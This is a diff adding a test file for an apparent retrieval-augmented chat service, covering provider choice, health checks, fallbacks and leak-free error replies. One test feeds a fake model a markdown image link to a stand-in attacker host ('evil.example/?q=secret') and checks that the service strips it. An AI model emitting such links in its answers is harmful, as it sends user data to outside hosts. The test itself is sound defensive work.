@@ -1,0 +1,213 @@
+/** The whole program over services of others: who is called, what health says, and what readers get when they fail. */
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
+import { type App, createApp } from '../../src/app.ts'
+import { startCohere } from '../fakes/services/cohere.ts'
+import type { FakeServer } from '../fakes/services/fake-server.ts'
+import { type FakeGemini, startGemini } from '../fakes/services/gemini.ts'
+import { type FakeOpenAi, startOpenAi } from '../fakes/services/openai.ts'
+import { type FakeQdrant, startQdrant } from '../fakes/services/qdrant.ts'
+import { type TemporaryFolder, temporaryFolder } from '../support/open-database.ts'
+
+const ADMIN_KEY = 'the-admin-key-of-this-test'
+const KEY = 'key-of-the-vendor'
+const content = `# Locks
+
+## Sluices
+
+Sluices are opened at dawn by the keeper, and closed when the water has risen by two feet.
+
+## Toll
+
+Each barge pays a toll of four pence at the lower gate of the canal.
+`
+
+interface Running {
+  readonly app: App
+  put(id: string): Promise<Record<string, unknown>>
+  post(
+    path: string,
+    body: object,
+  ): Promise<{ readonly status: number; readonly headers: Headers; readonly json: Reply }>
+  health(): Promise<{ readonly code: number; readonly status: string; readonly services: Record<string, string> }>
+  close(): Promise<void>
+}
+
+// biome-ignore lint/suspicious/noExplicitAny: replies of several routes, each looked at by its own test
+type Reply = any
+
+async function run(settings: Readonly<Record<string, string>>): Promise<Running> {
+  const folder: TemporaryFolder = await temporaryFolder()
+  const environment = { ADMIN_KEY, DATA_DIR: folder.path, LOG_LEVEL: 'silent', RATE_LIMIT_REQUESTS: '0', ...settings }
+  const app = await createApp({ environment })
+  const call = (path: string, method: string, body?: object): Promise<Response> =>
+    app.fetch(
+      new Request(`http://localhost${path}`, {
+        method,
+        headers: { authorization: `Bearer ${ADMIN_KEY}`, 'content-type': 'application/json' },
+        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+      }),
+    )
+  return {
+    app,
+    put: async (id) =>
+      (await (await call(`/v1/documents/${id}`, 'PUT', { content })).json()) as Record<string, unknown>,
+    async post(path, body) {
+      const response = await call(path, 'POST', body)
+      return { status: response.status, headers: response.headers, json: await response.json() }
+    },
+    async health() {
+      const response = await call('/health', 'GET')
+      return {
+        code: response.status,
+        ...((await response.json()) as { status: string; services: Record<string, string> }),
+      }
+    },
+    async close() {
+      await app.close()
+      await folder.remove()
+    },
+  }
+}
+
+const QUESTION = { message: 'When are the sluices opened by the keeper?' }
+
+describe('with COHERE_API_KEY and GEMINI_API_KEY alone', () => {
+  let cohere: FakeServer
+  let gemini: FakeGemini
+  let program: Running
+
+  beforeAll(async () => {
+    cohere = await startCohere()
+    gemini = await startGemini()
+    program = await run({
+      COHERE_API_KEY: KEY,
+      COHERE_BASE_URL: cohere.url,
+      GEMINI_API_KEY: KEY,
+      GEMINI_BASE_URL: gemini.url,
+    })
+  }, 60_000)
+  afterAll(async () => {
+    await program?.close()
+    await Promise.all([cohere?.stop(), gemini?.stop()])
+  })
+
+  test('both are chosen, and it is said why', () => {
+    const chosen = program.app.choices.map(({ port, adapter, reason }) => [port, adapter?.name, reason])
+    expect(chosen).toContainEqual(['embedder', 'cohere', 'COHERE_API_KEY is set'])
+    expect(chosen).toContainEqual(['reranker', 'cohere', 'COHERE_API_KEY is set'])
+    expect(chosen).toContainEqual(['generator', 'gemini', 'GEMINI_API_KEY is set'])
+  })
+
+  test('documents and questions are embedded there, and answers written there', async () => {
+    const { embedded } = await program.put('locks')
+    expect(embedded).toBeGreaterThan(0)
+    expect(cohere.count(/embed/)).toBe(1)
+    const { json: found } = await program.post('/v1/search', { query: QUESTION.message })
+    expect(found).toMatchObject({ mode: 'hybrid', degraded: [] })
+    const { status, json: answer } = await program.post('/v1/chat', QUESTION)
+    expect(status).toBe(200)
+    expect(answer).toMatchObject({
+      status: 'answered',
+      answer: 'Sluices are opened at dawn [1].',
+      model: 'gemini-2.5-flash',
+      finish_reason: 'stop',
+      usage: { input_tokens: 311, output_tokens: 42 },
+    })
+    expect(answer.citations[0].quote).toContain('Sluices are opened at dawn')
+    expect(gemini.count(/streamGenerateContent/)).toBe(1)
+  })
+
+  test('a made-up marker, a quote that is in no source, a strange link and an image reach nobody', async () => {
+    gemini.text = [
+      'The keeper opens them at dawn [9',
+      '], as "the gates of heaven" [2]. ',
+      '![x](https://evil.example/?q=secret) See [here](https://evil.example/a). ',
+      'Sluices are opened at dawn [1].',
+    ]
+    const { json: answer } = await program.post('/v1/chat', QUESTION)
+    expect(answer.answer).not.toMatch(/\[9\]|evil\.example/)
+    for (const { quote, start, end } of answer.citations) expect(content.slice(start, end)).toBe(quote)
+    gemini.text = ['Sluices are opened at dawn [1].']
+  })
+
+  test('an answer that was blocked is told as filtered', async () => {
+    gemini.blockReason = 'SAFETY'
+    const { json: answer } = await program.post('/v1/chat', QUESTION)
+    expect(answer).toMatchObject({ status: 'no_answer', finish_reason: 'filtered', citations: [] })
+    gemini.blockReason = undefined
+  })
+
+  test('health tells of both, and of their end; then words answer, and chat says that it cannot', async () => {
+    expect(await program.health()).toMatchObject({
+      code: 200,
+      status: 'healthy',
+      services: { cohere: 'active', gemini: 'active', openai: 'disabled', qdrant: 'disabled' },
+    })
+    await Promise.all([cohere.stop(), gemini.stop()])
+    const stopped = performance.now()
+    let state = await program.health()
+    while (state.services.cohere === 'active' || state.services.gemini === 'active') {
+      await Bun.sleep(100)
+      state = await program.health()
+    }
+    expect(performance.now() - stopped).toBeLessThan(5000)
+    expect(state).toMatchObject({ code: 200, status: 'degraded', services: { cohere: 'inactive', gemini: 'inactive' } })
+
+    const { json: found } = await program.post('/v1/search', { query: QUESTION.message })
+    expect(found).toMatchObject({ mode: 'lexical', degraded: ['embedding'] })
+    expect(found.results[0].text).toContain('Sluices are opened at dawn')
+    const { status, json: failed } = await program.post('/v1/chat', QUESTION)
+    expect(status).toBe(503)
+    expect(failed).toMatchObject({ code: 'upstream_unavailable', detail: 'gemini did not answer as it should' })
+    expect(JSON.stringify(failed)).not.toContain(KEY)
+  }, 20_000)
+})
+
+describe('with OPENAI_BASE_URL, QDRANT_URL and GENERATOR_FALLBACK=extractive', () => {
+  let openai: FakeOpenAi
+  let qdrant: FakeQdrant
+  let program: Running
+
+  beforeAll(async () => {
+    openai = await startOpenAi()
+    qdrant = await startQdrant()
+    program = await run({
+      OPENAI_BASE_URL: `${openai.url}/v1`,
+      OPENAI_MODEL: 'llama3.2',
+      OPENAI_EMBED_MODEL: 'embedding-model',
+      QDRANT_URL: qdrant.url,
+      GENERATOR_FALLBACK: 'extractive',
+    })
+  }, 60_000)
+  afterAll(async () => {
+    await program?.close()
+    await Promise.all([openai?.stop(), qdrant?.stop()])
+  })
+
+  test('vectors go there, come from there, and are deleted there', async () => {
+    await program.put('locks')
+    expect(qdrant.countPoints()).toBeGreaterThan(0)
+    const { json: found } = await program.post('/v1/search', { query: QUESTION.message, mode: 'semantic' })
+    expect(found).toMatchObject({ mode: 'semantic', degraded: [] })
+    expect(qdrant.count(/points\/query/)).toBe(1)
+    const { json: answer } = await program.post('/v1/chat', QUESTION)
+    expect(answer).toMatchObject({ status: 'answered', model: 'llama3.2', degraded: [] })
+  })
+
+  test('while the model is away, quotes answer, and it is told', async () => {
+    openai.failAll({ type: 'status', status: 503, headers: { 'retry-after': '30' } })
+    const { json: answer } = await program.post('/v1/chat', QUESTION)
+    expect(answer).toMatchObject({ status: 'answered', model: 'extractive' })
+    expect(answer.degraded).toContain('generator')
+    expect(answer.answer).toContain('Sluices are opened at dawn')
+  })
+
+  test('without Qdrant, words answer', async () => {
+    openai.failAll(undefined)
+    await qdrant.stop()
+    const { json: found } = await program.post('/v1/search', { query: QUESTION.message })
+    expect(found.mode).toBe('lexical')
+    expect(found.results[0].text).toContain('Sluices are opened at dawn')
+    expect((await program.health()).services).toMatchObject({ qdrant: 'inactive' })
+  })
+})
